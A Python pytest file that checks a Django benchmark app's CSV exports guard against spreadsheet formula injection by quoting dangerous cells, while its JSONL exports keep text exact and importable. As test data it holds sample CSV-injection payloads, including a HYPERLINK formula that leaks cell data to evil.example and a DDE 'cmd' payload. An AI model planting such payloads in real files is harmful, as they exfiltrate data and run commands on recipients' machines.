"""CSV exports neutralise spreadsheet formulas (OWASP "CSV Injection"), and only in the CSV copies.

A text cell starting with =, +, -, @, tab or carriage return is run as a formula by spreadsheet
programs; every CSV the application writes prefixes such a cell with a single quote. Numbers stay
numbers, the JSONL export keeps the text exactly, and importing an export still reproduces it.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from django.urls import reverse

from annotation.models import Assignment
from annotation.services import assignment_submit
from arena.csvsafe import csv_safe
from arena.models import Benchmark, OrderedJudgment, Participant, Proposal
from lit2test.release import ReleaseImportError, release_export, release_import
from tests.annotation.helpers import client_for, complete_values, make_study

from . import builders as b

DANGEROUS = {
    "equals": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


@pytest.mark.parametrize("text", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_text_starting_like_a_formula_gets_a_leading_quote(text: str) -> None:
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["plain text", "a = b", "1-2", "", " =1+1 after a space", "'=already quoted", "模型 = 好"])
def test_other_text_is_left_alone(value: str) -> None:
    assert csv_safe(value) == value


@pytest.mark.parametrize("value", [-7, -0.5, 0, 3, None, True, float("-inf")])
def test_numbers_and_non_text_values_are_left_alone(value: object) -> None:
    assert csv_safe(value) is value


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.django_db
def test_the_release_export_neutralises_formulas_in_csv_but_keeps_jsonl_exact_and_importable(tmp_path: Path) -> None:
    files = b.small_release()
    alpha, beta = files["proposals.jsonl"][0], files["proposals.jsonl"][1]  # Alpha 1 and Beta-2 on ctx_001__v1
    fields = ("literature_gap", "hypothesis", "minimal_test", "decisive_metric", "supporting_result", "falsifying_result")
    alpha.update(dict(zip(fields, DANGEROUS.values(), strict=True)))
    beta["minimal_test"] = -7  # a wrong type, kept as data: a number, which must stay a number
    beta["lit2test_flags"] = {"score": -0.5}
    line = b.judgment("ctx_001__v1", "Alpha 1", "Beta-2", "original", "A")
    line["main_reason"] = DANGEROUS["equals"]
    line["weakness_b"] = DANGEROUS["at"]
    files["judgments.jsonl"] = [line]
    release_import(directory=b.write(tmp_path / "in", files))
    benchmark = Benchmark.objects.get()
    out = tmp_path / "out"
    release_export(benchmark=benchmark, directory=out)

    proposals = {(r["context_id"], r["model"]): r for r in read_csv(out / "proposals.csv")}
    exported_alpha = proposals[("ctx_001__v1", "Alpha 1")]
    for name, text in zip(fields, DANGEROUS.values(), strict=True):
        assert exported_alpha[name] == "'" + text, name
    exported_beta = proposals[("ctx_001__v1", "Beta-2")]
    assert exported_beta["minimal_test"] == "-7"
    assert exported_beta["lit2test_flags.score"] == "-0.5"
    assert exported_beta["hypothesis"] == "Beta-2 hypothesis for ctx_001__v1."  # ordinary text unchanged
    judged = [r for r in read_csv(out / "judgments.csv") if r["judge_model"] == "Judge-X"]
    assert (judged[0]["main_reason"], judged[0]["weakness_b"]) == ("'" + DANGEROUS["equals"], "'" + DANGEROUS["at"])
    assert judged[0]["attempt"] == "1" and judged[0]["elapsed_seconds"] == "1.5"

    # The JSONL files carry the text exactly, and they are what the importer reads.
    jsonl = {(r["context_id"], r["model"]): r for r in map(json.loads, (out / "proposals.jsonl").read_text().splitlines())}
    assert [jsonl[("ctx_001__v1", "Alpha 1")][f] for f in fields] == list(DANGEROUS.values())
    assert jsonl[("ctx_001__v1", "Beta-2")]["minimal_test"] == -7
    Benchmark.objects.all().delete()
    release_import(directory=out)
    stored = Proposal.objects.get(participant__name="Alpha 1", context__external_id="ctx_001__v1")
    assert [stored.content[f] for f in fields] == list(DANGEROUS.values())
    assert OrderedJudgment.objects.get(run__judge_model="Judge-X").main_reason == DANGEROUS["equals"]


@pytest.mark.django_db
def test_the_export_csv_never_feeds_the_importer(tmp_path: Path) -> None:
    """A folder holding only the CSV copies is not a release: the CSVs are never read back."""
    release_import(directory=b.write(tmp_path / "in", b.small_release()))
    out = tmp_path / "out"
    release_export(benchmark=Benchmark.objects.get(), directory=out)
    for path in out.glob("*.jsonl"):
        path.unlink()
    (out / "benchmark.json").unlink()
    assert sorted(p.name for p in out.iterdir()) == ["folded_cases.csv", "judgments.csv", "proposals.csv"]
    with pytest.raises(ReleaseImportError, match="no release files found"):
        release_import(directory=out)


@pytest.mark.django_db
def test_labels_csv_neutralises_formulas_in_rationales_and_model_names(imported, annotator, annotator2, researcher) -> None:  # noqa: ANN001
    Participant.objects.filter(benchmark=imported, name="GLM-5").update(name="\tGLM-5")
    Participant.objects.filter(benchmark=imported, name="DeepSeek-V3.2").update(name="\rDeepSeek-V3.2")
    study = make_study(imported, [annotator, annotator2])
    # The form strips leading whitespace from a rationale; tabs and returns reach the CSV in model names.
    rationales = [DANGEROUS[k] + " is my reason" for k in ("equals", "plus", "minus", "at")] + ["A plain rationale."]
    assignments = list(Assignment.objects.filter(study=study).order_by("annotator__username", "position"))
    for index, assignment in enumerate(assignments):
        assignment_submit(assignment=assignment, values=complete_values("A", rationale=rationales[index % len(rationales)]))

    response = client_for(researcher).get(reverse("annotation:study-labels", args=[study.pk]))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(assignments)
    seen = {row["rationale"] for row in rows}
    assert {"'" + DANGEROUS[k] + " is my reason" for k in ("equals", "plus", "minus", "at")} | {"A plain rationale."} == seen
    models = {row[key] for row in rows for key in ("model_first", "model_second", "shown_a", "shown_b")}
    assert {"'\tGLM-5", "'\rDeepSeek-V3.2", "GPT 5.2", "Claude-Sonnet-4.6"} <= models
    assert not any(m.startswith(("\t", "\r", "=", "+", "-", "@")) for m in models)
    assert {row[key] for row in rows for key in row if key.startswith(("first_", "second_"))} == {"2"}  # scores stay numbers


@pytest.mark.django_db
def test_lists_in_csv_cells_read_as_text_not_as_python_reprs(tmp_path: Path) -> None:
    files = b.small_release()
    files["proposals.jsonl"][0]["schema_errors"] = ["missing field: hypothesis", "decisive_metric is empty"]
    files["proposals.jsonl"][0]["lit2test_errors"] = ["no falsifier"]
    line = b.judgment("ctx_001__v1", "Alpha 1", "Beta-2", "original", "A")
    line["judge_errors"] = ["attempt 1: no JSON object", "attempt 2: winner missing"]
    files["judgments.jsonl"] = [line]
    release_import(directory=b.write(tmp_path / "in", files))
    out = tmp_path / "out"
    release_export(benchmark=Benchmark.objects.get(), directory=out)

    proposals = {(r["context_id"], r["model"]): r for r in read_csv(out / "proposals.csv")}
    alpha = proposals[("ctx_001__v1", "Alpha 1")]
    assert alpha["schema_errors"] == "missing field: hypothesis; decisive_metric is empty"
    assert alpha["lit2test_errors"] == "no falsifier"
    assert proposals[("ctx_001__v1", "Beta-2")]["schema_errors"] == ""
    judged = [r for r in read_csv(out / "judgments.csv") if r["judge_model"] == "Judge-X"]
    assert [r["judge_errors"] for r in judged] == ["attempt 1: no JSON object; attempt 2: winner missing"]
    assert [r["model_pair"] for r in judged] == ["Alpha 1 vs Beta-2"]
    for name in ("proposals", "judgments", "folded_cases"):
        for row in read_csv(out / f"{name}.csv"):
            assert not any(cell.startswith(("[", "'[")) for cell in row.values()), (name, row)
    jsonl = [json.loads(x) for x in (out / "proposals.jsonl").open()]
    assert next(r for r in jsonl if r["model"] == "Alpha 1")["schema_errors"] == [
        "missing field: hypothesis",
        "decisive_metric is empty",
    ]
